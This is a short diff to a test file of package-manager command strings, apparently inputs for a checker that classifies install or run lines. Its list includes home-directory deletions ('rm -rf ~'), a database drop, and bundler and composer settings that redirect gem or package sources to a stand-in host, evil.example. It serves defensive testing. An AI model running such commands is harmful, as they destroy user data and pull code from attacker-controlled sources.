@@ -71,7 +71,7 @@ def test_other_package_lines_that_install_or_run_are_left_to_the_client(line: st
         "bundle exec rm -rf ~",
         "bundle exec sh -c 'rm -rf ~'",
         "bundle exec rake db:drop",
-        "bundle config set mirror.https://rubygems.org http://evil.example",
+        "bundle config set mirror.https://gems.example http://evil.example",
         "bundle add x --git https://evil.example/x.git",
         "composer exec rm -- -rf ~",
         "composer config repositories.evil composer https://evil.example",
